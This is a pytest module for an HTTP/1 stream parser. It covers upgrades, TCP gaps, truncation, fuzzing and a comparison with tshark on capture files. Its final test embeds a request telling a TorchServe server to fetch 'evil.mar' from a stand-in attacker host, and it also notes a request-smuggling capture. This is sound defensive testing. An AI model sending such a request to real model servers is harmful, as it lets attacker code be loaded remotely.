    session = check([[(S, request + b"GET / HTTP/1.1\r\n\r\n")], [(C, refused)]], {
        S: [("req", 0, "CONNECT", "api.example:443", True), ("end", 0, True, ()),
            ("req", 1, "GET", "/", True), ("end", 1, True, ())],
        C: [("resp", 0, 407, False), ("body", 0, b"no!"), ("end", 0, True, ())]})
    assert session.upgraded_to is None


def test_upgrade_declined_continues_http1():
    """An Upgrade request answered 200: the client's next bytes are HTTP/1 again."""
    request = b"GET / HTTP/1.1\r\nHost: a\r\nUpgrade: h2c\r\nConnection: Upgrade\r\n\r\n"
    session = check([[(S, request + b"GET /2 HTTP/1.1\r\n\r\n")],
                     [(C, b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")]], {
        S: [("req", 0, "GET", "/", True), ("end", 0, True, ()), ("req", 1, "GET", "/2", True),
            ("end", 1, True, ())],
        C: [("resp", 0, 200, True), ("end", 0, True, ())]})
    assert session.upgraded_to is None


# --- gaps and ends ------------------------------------------------------------------------------


def run_with_gaps(calls: list[tuple[int, bytes | int]], eof: bool = True) -> dict[int, list[tuple]]:
    """Feed data (bytes) and gaps (int lengths) in order."""
    session = Http1Session()
    events: list[SessionEvent] = []
    for ts, (direction, item) in enumerate(calls):
        if isinstance(item, int):
            events += session.receive_gap(direction, item, float(ts))
        else:
            events += session.receive_data(direction, item, float(ts))
    if eof:
        events += session.receive_eof(S, 99.0) + session.receive_eof(C, 99.0)
    return normalize(events)


def test_gap_inside_content_length_body_is_counted():
    """A hole in a Content-Length body: skipped by counting, the message ends incomplete."""
    head = b"HTTP/1.1 200 OK\r\nContent-Length: 10\r\n\r\n"
    assert run_with_gaps([(S, b"GET / HTTP/1.1\r\n\r\nGET /2 HTTP/1.1\r\n\r\n"), (C, head + b"abc"), (C, 4),
                          (C, b"hij" + head + b"0123456789")]) == {
        S: [("req", 0, "GET", "/", True), ("end", 0, True, ()), ("req", 1, "GET", "/2", True),
            ("end", 1, True, ())],
        C: [("resp", 0, 200, False), ("body", 0, b"abc"), ("hole", 0, 4), ("body", 0, b"hij"), ("end", 0, False, ()),
            ("resp", 1, 200, False), ("body", 1, b"0123456789"), ("end", 1, True, ())]}
    # a hole that ends exactly at the end of the body
    assert run_with_gaps([(S, b"GET / HTTP/1.1\r\n\r\n"), (C, head + b"abc"), (C, 7)])[C] == [
        ("resp", 0, 200, False), ("body", 0, b"abc"), ("hole", 0, 7), ("end", 0, False, ())]


def test_gap_inside_chunk_data_is_counted_and_across_framing_resyncs():
    """Chunked: a hole inside chunk data is skipped; one over a size line resyncs on the next head."""
    head = b"POST /u HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n"
    assert run_with_gaps([(S, head + b"a\r\n01"), (S, 5), (S, b"789\r\n0\r\n\r\n")])[S] == [
        ("req", 0, "POST", "/u", False), ("body", 0, b"01"), ("hole", 0, 5), ("body", 0, b"789"), ("end", 0, False, ())]
    assert run_with_gaps([(S, head + b"a\r\n01"), (S, 20),
                          (S, b"junk\r\n0\r\n\r\nGET /next HTTP/1.1\r\n\r\n")])[S] == [
        ("req", 0, "POST", "/u", False), ("body", 0, b"01"), ("hole", 0, 8), ("anomaly", "gap", 0),
        ("end", 0, False, ()), ("req", 1, "GET", "/next", True), ("end", 1, True, ())]


def test_gap_in_a_head_resyncs_on_the_next_start_line():
    """A hole in a head: anomaly, the partial head is dropped, parsing resumes at the next message."""
    assert run_with_gaps([(S, b"GET /a HTTP/1.1\r\nHo"), (S, 30),
                          (S, b"er: x\r\n\r\nPOST /b HTTP/1.1\r\nContent-Length: 1\r\n\r\nz")])[S] == [
        ("anomaly", "gap", None), ("req", 0, "POST", "/b", False), ("body", 0, b"z"), ("end", 0, True, ())]
    responses = run_with_gaps([(S, b"GET /a HTTP/1.1\r\n\r\nGET /b HTTP/1.1\r\n\r\n"), (C, b"HTTP/1.1 2"),
                               (C, 40), (C, b"xx HTTP/1.1 500\r\nHTTP/1.1 204 No Content\r\n\r\n")])[C]
    assert responses == [("anomaly", "gap", None), ("resp", 0, 204, True), ("end", 0, True, ())]
    # the gap swallowed the rest of the stream: nothing found, the direction is given up in the end
    limits_budget = 16 * Limits().max_header_bytes
    assert run_with_gaps([(S, b"GET / HTTP/1.1\r\nX: "), (S, 10), (S, b"y" * (limits_budget + 5000))])[S] == [
        ("anomaly", "gap", None), ("anomaly", "resync_failed", None)]


def test_gap_in_close_delimited_body():
    """A close-delimited body with a hole ends incomplete at EOF."""
    assert run_with_gaps([(S, b"GET / HTTP/1.0\r\n\r\n"), (C, b"HTTP/1.0 200 OK\r\n\r\nab"), (C, 3),
                          (C, b"cd")])[C] == [
        ("resp", 0, 200, False), ("body", 0, b"ab"), ("hole", 0, 3), ("body", 0, b"cd"), ("end", 0, False, ())]


def test_eof_mid_body_is_truncated():
    """The stream ends inside a Content-Length or chunked body: anomaly and incomplete end."""
    response = b"HTTP/1.1 200 OK\r\nContent-Length: 100\r\n\r\npartial"
    check([[(S, b"GET / HTTP/1.1\r\n\r\n")], [(C, response)]], {
        S: [("req", 0, "GET", "/", True), ("end", 0, True, ())],
        C: [("resp", 0, 200, False), ("body", 0, b"partial"), ("anomaly", "truncated_message", 0),
            ("end", 0, False, ())]})
    check([[(S, b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nab")]], {
        S: [("req", 0, "POST", "/", False), ("body", 0, b"ab"), ("anomaly", "truncated_message", 0),
            ("end", 0, False, ())], C: []})
    # a half-received head at EOF is not a message: nothing to report
    check([[(S, b"GET / HTTP/1.1\r\nHost")]], {S: [], C: []})


def test_data_after_give_up_or_eof_is_ignored():
    """Once given up or closed, a direction stays silent."""
    session = Http1Session()
    session.receive_data(S, b"\x16\x03\x01", 1.0)
    assert session.receive_data(S, b"GET / HTTP/1.1\r\n\r\n", 2.0) == []
    assert session.receive_gap(S, 10, 3.0) == []
    session.receive_eof(C, 4.0)
    assert session.receive_data(C, b"HTTP/1.1 200 OK\r\n\r\n", 5.0) == []


# --- never raise ---------------------------------------------------------------------------------


def _invariants(events: list[SessionEvent]) -> None:
    """Events are well formed: bodies and ends follow a head of the same stream, one end each."""
    normalize(events)
    heads: set[tuple[int, int]] = set()
    ended: set[tuple[int, int]] = set()
    for event in events:
        if isinstance(event, HeadReceived):
            heads.add((event.direction, event.stream_id))
        elif isinstance(event, (BodyReceived, MessageEnded)):
            key = (event.direction, event.stream_id)
            assert key in heads and key not in ended, event
            if isinstance(event, MessageEnded):
                ended.add(key)


_operations = st.lists(st.tuples(st.sampled_from([S, C]),
                                 st.one_of(st.binary(max_size=64), st.integers(1, 40), st.just(None))),
                       max_size=30)


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(_operations)
def test_random_input_never_raises(operations):
    """Random bytes, gaps and ends in both directions: events only, never an exception."""
    session = Http1Session(Limits(max_header_bytes=256, max_headers=8, max_chunk_line=32,
                                  max_pending_exchanges=3))
    events: list[SessionEvent] = []
    for direction, item in operations:
        if item is None:
            events += session.receive_eof(direction, 1.0)
        elif isinstance(item, int):
            events += session.receive_gap(direction, item, 1.0)
        else:
            events += session.receive_data(direction, item, 1.0)
    _invariants(events)


def _valid_conversation() -> tuple[bytes, bytes]:
    requests, responses = [], []
    for request, response in [
        h11_exchange("POST", "/a", body=b"0123456789", response_headers=[("Content-Length", "3")],
                     response_body=b"abc"),
        h11_exchange("PUT", "/b", headers=[("Transfer-Encoding", "chunked"), ("Expect", "100-continue")],
                     request_chunks=[b"x" * 30, b"y"], request_trailers=[("T", "1")],
                     response_headers=[("Transfer-Encoding", "chunked")], response_body=[b"z" * 17],
                     trailers=[("Grpc-Status", "0")]),
        h11_exchange("HEAD", "/c", response_headers=[("Content-Length", "50")]),
        h11_exchange("GET", "/d", headers=[("Upgrade", "websocket"), ("Connection", "Upgrade")],
                     status=426, response_headers=[("Content-Length", "0")]),
    ]:
        requests.append(request)
        responses.append(response)
    return b"".join(requests), b"HTTP/1.1 100 Continue\r\n\r\n".join([b"", *responses])


_REQUESTS, _RESPONSES = _valid_conversation()


_INSERTS = [b"HTTP/1.1 101 S\r\nUpgrade: h2c\r\n\r\n", b"Transfer-Encoding: chunked\r\n",
            b"Content-Length: 9\r\n", b"CONNECT h:1 HTTP/1.1\r\n\r\n", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
            b"HTTP/1.1 200 OK\r\n\r\n", b"GET / HTTP/1.1\r\nUpgrade: h2c\r\n\r\n"]


def _mutate(rng: random.Random, data: bytes, count: int) -> bytes:
    buffer = bytearray(data)
    for _ in range(count):
        where = rng.randrange(len(buffer) + 1)
        kind = rng.randrange(4)
        if kind == 0 and where < len(buffer):
            buffer[where] = rng.randrange(256)
        elif kind == 1:
            buffer[where:where] = rng.choice([b"\r\n", b"\n", b"\r", b":", b" ", b"0", b"f", b";", b"\x00"])
        elif kind == 2:
            del buffer[where:where + rng.randrange(1, 8)]
        else:
            buffer[where:where] = rng.choice(_INSERTS)
    return bytes(buffer)


def _with_gaps(rng: random.Random, direction: int, data: bytes) -> list[Step]:
    steps: list[Step] = []
    pos = 0
    while pos < len(data):
        if rng.random() < 0.15:
            steps.append([(direction, rng.randrange(1, 60))])
        take = rng.randrange(1, len(data) - pos + 1)
        steps.append([(direction, data[pos:pos + take])])
        pos += take
    return steps


@settings(max_examples=150, deadline=None)
@given(st.randoms(use_true_random=False), st.integers(0, 10), st.integers(0, 10), st.booleans(),
       st.sampled_from([Limits(), Limits(max_header_bytes=60, max_headers=3, max_chunk_line=4,
                                     max_pending_exchanges=1)]))
def test_mutated_conversations_never_raise_and_ignore_splits(rng, server_mutations, client_mutations,
                                                            gaps, limits):
    """A valid conversation with bytes flipped, inserted, deleted (and holes): well-formed events,
    the same whether fed whole, byte by byte or in random pieces."""
    requests, responses = _mutate(rng, _REQUESTS, server_mutations), _mutate(rng, _RESPONSES, client_mutations)
    if gaps:
        steps = _with_gaps(rng, S, requests) + _with_gaps(rng, C, responses)
    else:
        steps = [[(S, requests)], [(C, responses)]]
    outcomes = []
    for mode in ("whole", "bytes", rng.randrange(1000)):
        session, events = run(steps, mode, limits)
        _invariants(events)
        outcomes.append((normalize(events), session.upgraded_to, session.leftover))
    assert outcomes[1] == outcomes[0]
    assert outcomes[2] == outcomes[0]


@settings(max_examples=150, deadline=None)
@given(st.randoms(use_true_random=False), st.integers(1, 12))
def test_mutated_conversations_in_any_interleaving_never_raise(rng, mutations):
    """Both directions mutated and interleaved at random (not always causal): events stay well formed."""
    steps = [[(S, _mutate(rng, _REQUESTS, mutations)), (C, _mutate(rng, _RESPONSES, mutations))]]
    _, events = run(steps, rng.randrange(1000))
    _invariants(events)


def test_valid_conversation_for_the_fuzzer_parses_cleanly():
    """The conversation the mutation test starts from is itself parsed without anomaly."""
    steps = [[(S, _REQUESTS)], [(C, _RESPONSES)]]
    for mode in MODES:
        _, events = run(steps, mode)
        assert not [e for e in events if isinstance(e, SessionAnomaly)]
        assert [e.message.method or e.message.status for e in events if isinstance(e, HeadReceived)] == [
            "POST", "PUT", "HEAD", "GET", 100, 200, 100, 200, 100, 200, 100, 426]


# --- corpus: real captures against tshark's ground truth ---------------------------------------

_CORPUS = Path(os.environ.get("INSPECTOR_CORPUS")
               or Path(__file__).resolve().parents[3] / "shared" / "corpus")
_SOURCES = ("zeek/", "arkime/", "scapy/", "ja4/")

#: Files where this parser and tshark 4.0 count differently, why, and what this parser gives
#: (requests, status counts).
KNOWN_DIFFERENCES: dict[str, tuple[int, dict[str, int], str]] = {
    "arkime/socks5-http-302-frag.pcap": (0, {}, "a SOCKS5 handshake precedes HTTP on the connection; tshark "
                                         "decodes SOCKS first, protocol detection must do that here"),
    "ja4/latest.pcapng": (1, {"304": 1}, "the M-SEARCH requests are SSDP over UDP; this parser reads TCP"),
    "ja4/tls3.pcapng": (1, {"304": 1}, "the M-SEARCH requests are SSDP over UDP; this parser reads TCP"),
    "scapy/tls_nss_example.pcap": (0, {}, "HTTP inside TLS; tshark decrypted it with the key log"),
    "zeek/tls/tls-1.2-stream-keylog.pcap": (0, {}, "HTTP inside TLS; tshark decrypted it with the key log"),
    "zeek/tls/tls12-decryption.pcap": (0, {}, "HTTP inside TLS; tshark decrypted it with the key log"),
    "zeek/http/methods.pcap": (17, {"405": 8, "400": 30, "200": 5, "403": 1, "411": 5},
                               "tshark also counts 8 HTTP/0.9-style lines ('GET /HTTP/1.1', refused here "
                               "as http09_request) and 'OPTIONS HTTP/1.1' (no target: invalid_request_line)"),
    "zeek/http-261/variant-03-cl_negative.pcap": (1, {}, "Content-Length: -1 gives the direction up "
                                                  "(invalid_content_length); tshark reads the smuggled "
                                                  "request behind it"),
}


def _ground_truth_files() -> list[str]:
    truth = _CORPUS / "_groundtruth" / "tshark_groundtruth.json"
    if not truth.is_file():
        return ["(corpus absent)"]
    entries = json.loads(truth.read_text())
    return sorted(name for name, entry in entries.items() if "http1" in entry and name.startswith(_SOURCES))


def _frames(path: Path):
    raw = path.read_bytes()
    if raw[:2] == b"\x1f\x8b":
        raw = gzip.decompress(raw)
    reader = dpkt.pcapng.Reader(io.BytesIO(raw)) if raw[:4] == b"\x0a\x0d\x0d\x0a" else dpkt.pcap.Reader(
        io.BytesIO(raw))
    linktype = reader.datalink()
    for ts, frame in reader:
        try:
            if linktype == dpkt.pcap.DLT_EN10MB:
                ip = dpkt.ethernet.Ethernet(frame).data
            elif linktype == dpkt.pcap.DLT_NULL:
                family = struct.unpack("<I", frame[:4])[0]
                ip = dpkt.ip6.IP6(frame[4:]) if family in (10, 24, 28, 30) else dpkt.ip.IP(frame[4:])
            elif linktype == dpkt.pcap.DLT_LINUX_SLL:
                ip = dpkt.sll.SLL(frame).data
            else:  # raw IP link types
                ip = dpkt.ip6.IP6(frame) if frame[0] >> 4 == 6 else dpkt.ip.IP(frame)
        except (dpkt.UnpackError, IndexError, struct.error):
            continue
        if isinstance(ip, (dpkt.ip.IP, dpkt.ip6.IP6)) and isinstance(ip.data, dpkt.tcp.TCP):
            yield ts, ip


def _connections(path: Path) -> list[dict[int, list[tuple[float, int, bytes]]]]:
    """Each TCP connection's two directions as (ts, stream offset, bytes), in sequence order."""
    connections: dict[frozenset, dict] = {}
    for ts, ip in _frames(path):
        tcp = ip.data
        src, dst = (bytes(ip.src), tcp.sport), (bytes(ip.dst), tcp.dport)
        conn = connections.setdefault(frozenset((src, dst)), {"syn": {}, "segments": {src: [], dst: []}})
        syn = bool(tcp.flags & dpkt.tcp.TH_SYN)
        if syn:
            conn["syn"].setdefault(src, (tcp.seq, bool(tcp.flags & dpkt.tcp.TH_ACK)))
        if tcp.data:  # data in a SYN starts one past its sequence number
            conn["segments"][src].append((ts, (tcp.seq + syn) & 0xFFFFFFFF, bytes(tcp.data)))
    result = []
    for conn in connections.values():
        if not any(conn["segments"].values()):
            continue
        client = _client_of(conn)
        server = next(end for end in conn["segments"] if end != client)
        result.append({S: _in_sequence(conn["segments"][client], conn["syn"].get(client)),
                       C: _in_sequence(conn["segments"][server], conn["syn"].get(server))})
    return result


def _client_of(conn: dict) -> tuple:
    for end, segments in conn["segments"].items():
        if segments and min(segments)[2].startswith(b"HTTP/"):
            return next(other for other in conn["segments"] if other != end)
    for end, (_, ack) in conn["syn"].items():
        if not ack:
            return end
    return next(end for end, segments in conn["segments"].items() if segments)


def _in_sequence(segments: list[tuple[float, int, bytes]], syn: tuple[int, bool] | None):
    if not segments:
        return []
    if syn is None:
        # Picked up mid-stream: a 1-byte keep-alive probe (sequence number next - 1) may come first.
        first = min(segments)
        if len(first[2]) == 1 and any(seq == (first[1] + 1) & 0xFFFFFFFF for _, seq, _ in segments):
            segments = [s for s in segments if s is not first]
        base = min(seq for _, seq, _ in segments)
    else:
        base = syn[0] + 1
    placed = sorted(((seq - base) & 0xFFFFFFFF, ts, data) for ts, seq, data in segments)
    out, covered = [], 0
    for offset, ts, data in placed:
        if offset > 0x7FFFFFFF or offset + len(data) <= covered:
            continue
        if offset < covered:  # overlap: first copy wins
            data, offset = data[covered - offset:], covered
        out.append((ts, offset, data))
        covered = offset + len(data)
    return out


def _replay(directions: dict[int, list[tuple[float, int, bytes]]]) -> list[SessionEvent]:
    """Feed both directions, merged by capture time, each kept in sequence order; holes are gaps."""
    session = Http1Session()
    events: list[SessionEvent] = []
    queues = {d: list(reversed(pieces)) for d, pieces in directions.items()}
    expected = {S: 0, C: 0}
    while queues[S] or queues[C]:
        direction = min((d for d in (S, C) if queues[d]), key=lambda d: queues[d][-1][0])
        ts, offset, data = queues[direction].pop()
        if offset > expected[direction]:
            events += session.receive_gap(direction, offset - expected[direction], ts)
        events += session.receive_data(direction, data, ts)
        expected[direction] = offset + len(data)
    return events + session.receive_eof(S, 0.0) + session.receive_eof(C, 0.0)


@pytest.mark.corpus
@pytest.mark.parametrize("name", _ground_truth_files())
def test_corpus_matches_tshark(corpus_dir, name):
    """Request count, first request lines and status counts equal tshark's, or differ as documented."""
    truth = json.loads((corpus_dir / "_groundtruth" / "tshark_groundtruth.json").read_text())[name]["http1"]
    requests: list[tuple[float, str]] = []
    statuses: Counter[str] = Counter()
    for directions in _connections(corpus_dir / name):
        for event in _replay(directions):
            if isinstance(event, HeadReceived) and event.direction == S:
                requests.append((event.ts, f"{event.message.method} {event.message.path}"))
            elif isinstance(event, HeadReceived):
                statuses[str(event.message.status)] += 1
    requests.sort(key=lambda item: item[0])
    lines = [line for _, line in requests]
    if name in KNOWN_DIFFERENCES:
        count, status_counts, _reason = KNOWN_DIFFERENCES[name]
        assert (len(lines), dict(statuses)) == (count, status_counts)
        assert (len(lines), dict(statuses)) != (truth["requests"], truth["status_counts"])
    else:
        assert len(lines) == truth["requests"]
        assert lines[:len(truth["first_requests"])] == truth["first_requests"]
        assert dict(statuses) == truth["status_counts"]


@pytest.mark.corpus
@pytest.mark.parametrize(("name", "protocol", "to_server", "to_client"), [
    ("scapy/http2_h2c.pcap", "h2c", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x12\x04", b"\x00\x00\x12\x04"),
    ("zeek/http/websocket.pcap", "websocket", b"\x81\xfe", b"\x82\x04"),
    ("ja4/https-connect.pcap", "tunnel", b"\x16\x03\x01", b"\x16\x03\x03"),
    ("zeek/http/docker-http-upgrade.pcap", "tcp", b"ls\r", b"/ # "),
])
def test_corpus_protocol_switches_keep_the_next_protocol(corpus_dir, name, protocol, to_server, to_client):
    """Real upgrades: the bytes after the switch (h2 preface and SETTINGS, frames, TLS) are kept."""
    switched = []
    for directions in _connections(corpus_dir / name):
        session = Http1Session()
        pieces = sorted(((ts, direction, data) for direction in (S, C) for ts, _, data in directions[direction]),
                        key=lambda piece: piece[0])
        for ts, direction, data in pieces:
            session.receive_data(direction, data, ts)
        if session.upgraded_to:
            switched.append((session.upgraded_to, session.leftover))
    assert len(switched) == 1
    upgraded_to, leftover = switched[0]
    assert upgraded_to == protocol
    assert leftover[S].startswith(to_server) and leftover[C].startswith(to_client)


def test_url_in_the_query_is_not_an_absolute_form_target() -> None:
    """`POST /models?url=http://evil/x.mar` must not make evil the request's authority."""
    session = Http1Session()
    events = session.receive_data(TO_SERVER, b"POST /models?url=http://198.51.100.7:8888/evil.mar HTTP/1.1\r\n"
                                             b"Host: torchserve:8081\r\nContent-Length: 0\r\n\r\n", 1.0)
    head = next(e for e in events if isinstance(e, HeadReceived))
    assert head.message.authority == "torchserve:8081" and head.message.scheme == "http"
    events = Http1Session().receive_data(TO_SERVER, b"GET http://bro.org/ HTTP/1.1\r\nHost: x\r\n\r\n", 1.0)
    head = next(e for e in events if isinstance(e, HeadReceived))
    assert head.message.authority == "bro.org"
